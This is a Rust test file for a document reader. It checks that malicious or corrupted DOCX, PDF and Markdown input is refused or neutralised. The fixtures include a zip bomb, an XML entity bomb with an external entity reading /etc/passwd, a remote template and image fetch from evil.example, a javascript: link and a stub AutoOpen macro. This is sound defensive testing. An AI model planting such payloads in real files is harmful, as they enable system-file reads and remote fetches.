//! Files that were made to harm, or came to harm.

use std::io::{Cursor, Read as _, Write as _};

use proptest::prelude::*;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use super::super::{Format, Manuscript, Refused, TextFile, finish, limits, look};
use super::read;
use super::tests::{NGHI_QUYET_PDF, QUY_DINH_DOCX, QUY_DINH_PDF, TAI_LIEU_DOCX, TAI_LIEU_PDF};

const HEAD: &str = "<?xml version=\"1.0\"?><w:document xmlns:w=\"w\"><w:body>";
const TAIL: &str = "</w:body></w:document>";

fn docx(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        writer
            .start_file(*name, SimpleFileOptions::default())
            .unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn document(body: &str) -> Vec<u8> {
    docx(&[(
        "word/document.xml",
        format!("{HEAD}{body}{TAIL}").as_bytes(),
    )])
}

fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

fn refused(format: Format, bytes: &[u8]) -> Refused {
    read(format, bytes).unwrap_err()
}

/// A document with one more part, or one part changed.
fn rewritten(bytes: &[u8], name: &str, change: impl Fn(String) -> String) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let entry_name = entry.name().unwrap().to_string();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).unwrap();
        if entry_name == name {
            content = change(String::from_utf8(content).unwrap()).into_bytes();
        }
        parts.push((entry_name, content));
    }
    let parts: Vec<(&str, &[u8])> = parts
        .iter()
        .map(|(name, content)| (name.as_str(), content.as_slice()))
        .collect();
    docx(&parts)
}

#[test]
fn a_small_archive_that_unpacks_to_much_is_refused() {
    let limit = usize::try_from(limits::DOCX_UNPACKED).unwrap();
    let bomb = docx(&[("word/document.xml", &vec![b' '; limit + 1])]);
    assert!(bomb.len() < 200_000, "{}", bomb.len());
    assert_eq!(refused(Format::Docx, &bomb), Refused::TooLargeUnpacked);
    // Over several parts, each below the limit.
    let half = vec![b' '; limit / 2 + 1];
    let styles = [b"<w:styles/>".as_slice(), &half].concat();
    let parts = [
        ("word/document.xml", half.as_slice()),
        ("word/styles.xml", &styles),
    ];
    assert_eq!(
        refused(Format::Docx, &docx(&parts)),
        Refused::TooLargeUnpacked
    );
    // A part that is not text is not unpacked at all.
    let fine = format!("{HEAD}{}{TAIL}", paragraph("Chữ"));
    let parts = [
        ("word/document.xml", fine.as_bytes()),
        ("word/media/image1.png", &vec![0; limit + 1]),
    ];
    assert!(read(Format::Docx, &docx(&parts)).is_ok());
}

#[test]
fn what_is_too_long_is_refused() {
    let many = document(&"<w:p/>".repeat(limits::PARAGRAPHS + 1));
    assert_eq!(refused(Format::Docx, &many), Refused::TooLong);
    let long = document(&paragraph(&"a".repeat(limits::CHARACTERS * 3 + 1)));
    assert_eq!(refused(Format::Docx, &long), Refused::TooLong);
    let sections: String = (1..=limits::SECTIONS + 1)
        .map(|number| paragraph(&format!("Điều {number}. X")))
        .collect();
    assert_eq!(
        refused(Format::Docx, &document(&sections)),
        Refused::TooManySections
    );
    assert_eq!(
        refused(Format::Markdown, &vec![b'a'; limits::MARKDOWN_BYTES + 1]),
        Refused::TooLarge
    );
    assert_eq!(
        refused(Format::Docx, &vec![0; limits::DOCX_BYTES + 1]),
        Refused::TooLarge
    );
    assert_eq!(
        refused(Format::Pdf, &vec![0; limits::PDF_BYTES + 1]),
        Refused::TooLarge
    );
}

#[test]
fn deep_nesting_is_refused_and_shallow_is_read() {
    let nested = |depth: usize| {
        let open = "<w:tbl><w:tr><w:tc>".repeat(depth);
        let close = "</w:tc></w:tr></w:tbl>".repeat(depth);
        document(&format!("{open}{}{close}", paragraph("Sâu")))
    };
    assert_eq!(refused(Format::Docx, &nested(100_000)), Refused::Corrupt);
    let read = read(Format::Docx, &nested(50)).unwrap();
    assert!(read.drafts[0].html.contains("Sâu"));
}

#[test]
fn entities_are_not_expanded() {
    let bomb = format!(
        "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
        HEAD.replace("<?xml version=\"1.0\"?>", "")
    );
    let body = paragraph("Chữ &b;&x;&amp;&#273;");
    let bytes = docx(&[(
        "word/document.xml",
        format!("{bomb}{body}{TAIL}").as_bytes(),
    )]);
    assert_eq!(
        read(Format::Docx, &bytes).unwrap().drafts[0].html,
        "<p>Chữ &amp;đ</p>"
    );
}

#[test]
fn files_of_another_kind_are_told_apart() {
    let compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1].as_slice();
    let name: Vec<u8> = "EncryptedPackage"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(refused(Format::Docx, compound), Refused::OldWordFormat);
    assert_eq!(
        refused(Format::Docx, &[compound, &name].concat()),
        Refused::Encrypted
    );
    assert_eq!(refused(Format::Docx, b""), Refused::Corrupt);
    assert_eq!(
        refused(Format::Docx, &docx(&[("a.txt", b"a")])),
        Refused::Corrupt
    );
    assert_eq!(refused(Format::Docx, NGHI_QUYET_PDF), Refused::Corrupt);
    assert_eq!(refused(Format::Pdf, QUY_DINH_DOCX), Refused::Corrupt);
    assert_eq!(refused(Format::Pdf, b"%PDF-1.7\n"), Refused::Corrupt);
    assert_eq!(
        refused(Format::Markdown, &[0xFF, 0xFE, 0x00]),
        Refused::Corrupt
    );
    assert_eq!(refused(Format::Markdown, b" \n\n"), Refused::Empty);
    assert_eq!(refused(Format::Docx, &document("<w:p/>")), Refused::Empty);
    let picture = "<w:p><w:r><w:drawing><pic:pic/></w:drawing></w:r></w:p>";
    assert_eq!(refused(Format::Docx, &document(picture)), Refused::NoText);
    assert_eq!(refused(Format::Markdown, b"![](a.png)\n"), Refused::NoText);
}

#[test]
fn old_encodings_are_refused() {
    let old = paragraph("Uû ban nh©n d©n tØnh, §¶ng bé huyÖn");
    assert_eq!(
        refused(Format::Docx, &document(&old)).code(),
        "legacy_tcvn3"
    );
    let vni = "UÛy ban nhaân daân tænh, Ñaûng boä huyeän";
    assert_eq!(
        refused(Format::Markdown, vni.as_bytes()).code(),
        "legacy_vni"
    );
}

#[test]
fn macros_and_outside_addresses_never_arrive() {
    let relationships = "<Relationships><Relationship Id=\"r1\" Type=\"x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" \
         TargetMode=\"External\"/><Relationship Id=\"r2\" Type=\"x/hyperlink\" Target=\"javascript:alert(1)\"/></Relationships>";
    let body = format!(
        "{HEAD}<w:p><w:hyperlink r:id=\"r2\"><w:r><w:t>bấm</w:t></w:r></w:hyperlink><w:r><w:instrText>INCLUDEPICTURE \
         https://evil.example/p.png</w:instrText></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>ẩn</w:t></w:r></w:p>{TAIL}"
    );
    let bytes = docx(&[
        ("word/document.xml", body.as_bytes()),
        ("word/_rels/document.xml.rels", relationships.as_bytes()),
        ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 AutoOpen"),
    ]);
    assert_eq!(
        read(Format::Docx, &bytes).unwrap().drafts[0].html,
        "<p>bấm</p>"
    );
}

#[test]
fn a_stamp_in_a_page_header_is_found() {
    let header = format!("<w:hdr xmlns:w=\"w\">{}</w:hdr>", paragraph("M Ậ T"));
    let body = format!("{HEAD}{}{TAIL}", paragraph("Báo cáo"));
    let bytes = docx(&[
        ("word/document.xml", body.as_bytes()),
        ("word/header1.xml", header.as_bytes()),
    ]);
    assert_eq!(read(Format::Docx, &bytes).unwrap().stamps.len(), 1);
}

/// What is read is bounded, and its levels are those of a tree.
fn sound(read: &Result<Manuscript, Refused>) -> Result<(), TestCaseError> {
    let Ok(read) = read else {
        return Ok(());
    };
    prop_assert!(read.drafts.len() <= limits::SECTIONS);
    let html: usize = read.drafts.iter().map(|draft| draft.html.len()).sum();
    prop_assert!(html < limits::CHARACTERS * 8, "{html}");
    match finish(read.drafts.clone()) {
        Ok(sections) => prop_assert_eq!(sections.len(), read.drafts.len()),
        Err(faults) => {
            let of_structure = faults.iter().find(|fault| {
                fault.code.as_str().contains("level") || fault.code.as_str().contains("empty")
            });
            prop_assert!(of_structure.is_none(), "{faults:?}");
        }
    }
    Ok(())
}

/// Flips, cuts, doubles and splices bytes.
fn harmed(
    mut bytes: Vec<u8>,
    harms: &[(u8, prop::sample::Index, prop::sample::Index, u8)],
) -> Vec<u8> {
    for (kind, at, other, value) in harms {
        if bytes.is_empty() {
            break;
        }
        let (at, other) = (at.index(bytes.len()), other.index(bytes.len()));
        let (from, to) = (at.min(other), at.max(other).min(at.min(other) + 200));
        match kind % 5 {
            0 | 1 => bytes[at] ^= value,
            2 => bytes.truncate(bytes.len() - bytes.len() / 8),
            3 => drop(bytes.drain(from..to)),
            _ => {
                let piece = bytes[from..to].to_vec();
                bytes.splice(other..other, piece);
            }
        }
    }
    bytes
}

fn harms() -> impl Strategy<Value = Vec<(u8, prop::sample::Index, prop::sample::Index, u8)>> {
    proptest::collection::vec(
        any::<(u8, prop::sample::Index, prop::sample::Index, u8)>(),
        1..12,
    )
}

const PIECES: [&str; 16] = [
    "<w:tbl>",
    "</w:tbl>",
    "<w:tr>",
    "</w:tr>",
    "<w:tc>",
    "</w:tc>",
    "<w:p>",
    "</w:p>",
    "<w:r>",
    "</w:r>",
    "<w:txbxContent>",
    "</w:txbxContent>",
    "<w:del>",
    "</w:del>",
    "<w:vMerge/>",
    "<w:gridSpan w:val=\"9999\"/>",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn any_bytes_are_answered(bytes in proptest::collection::vec(any::<u8>(), 0..2_000)) {
        for format in [Format::Docx, Format::Pdf, Format::Markdown] {
            sound(&read(format, &bytes))?;
        }
        sound(&read(Format::Pdf, &[b"%PDF-1.7\n".as_slice(), &bytes].concat()))?;
    }

    #[test]
    fn any_bytes_are_looked_through(bytes in proptest::collection::vec(any::<u8>(), 0..1_000), text in "(<[a-z:]{1,8}( (href|src|on[a-z]{2})=\"[a-z:/]{0,9}\")?/?>|</[a-z]{1,3}>|url\\(|@import|[^<]{0,6}){0,30}") {
        let names = ["content.xml", "1.xhtml", "a.css", "_rels/a.rels", "xl/sharedStrings.xml"];
        let parts = names.map(|name| (name, text.as_bytes()));
        for kind in [TextFile::Docx, TextFile::Xlsx, TextFile::OpenDocument, TextFile::Epub, TextFile::Pdf, TextFile::Plain] {
            for file in [&bytes, &docx(&parts)] {
                prop_assert!(look(kind, file).map_or(true, |look| look.stamps.len() <= 5 * text.len() + bytes.len()));
            }
        }
    }

    #[test]
    fn a_harmed_docx_is_answered(second in any::<bool>(), harms in harms()) {
        let bytes = if second { TAI_LIEU_DOCX } else { QUY_DINH_DOCX };
        sound(&read(Format::Docx, &harmed(bytes.to_vec(), &harms)))?;
    }

    #[test]
    fn harmed_xml_is_answered(second in any::<bool>(), harms in harms(), pieces in proptest::collection::vec((any::<prop::sample::Index>(), 0..PIECES.len()), 0..8)) {
        let (bytes, part) = if second { (TAI_LIEU_DOCX, "word/numbering.xml") } else { (QUY_DINH_DOCX, "word/document.xml") };
        let changed = rewritten(bytes, part, |text| {
            let mut text = String::from_utf8_lossy(&harmed(text.into_bytes(), harms.get(..harms.len() / 3).unwrap_or_default())).into_owned();
            for (at, piece) in &pieces {
                let mut at = at.index(text.len() + 1);
                while !text.is_char_boundary(at) {
                    at -= 1;
                }
                // Before a tag, so that the XML may still be well-formed.
                let at = text.get(at..).unwrap().find('<').map_or(text.len(), |gap| at + gap);
                text.insert_str(at, PIECES[*piece]);
            }
            text
        });
        sound(&read(Format::Docx, &changed))?;
    }

    #[test]
    fn a_harmed_pdf_is_answered(second in any::<bool>(), harms in harms()) {
        let bytes = if second { TAI_LIEU_PDF } else { QUY_DINH_PDF };
        sound(&read(Format::Pdf, &harmed(bytes.to_vec(), &harms)))?;
    }

    #[test]
    fn any_markdown_is_answered(text in "([#>*_|`\\[\\]()!~-]{0,6}|[ \n\t]{0,4}|[0-9]{1,3}[.)] |(Điều|Chương|Phụ lục|Mục) [0-9IVX]{1,3}[.: ]|[a-zđ]{1,6}|<[a-z/]{1,6}>|&[a-z]{2,4};){0,60}") {
        sound(&read(Format::Markdown, text.as_bytes()))?;
    }
}
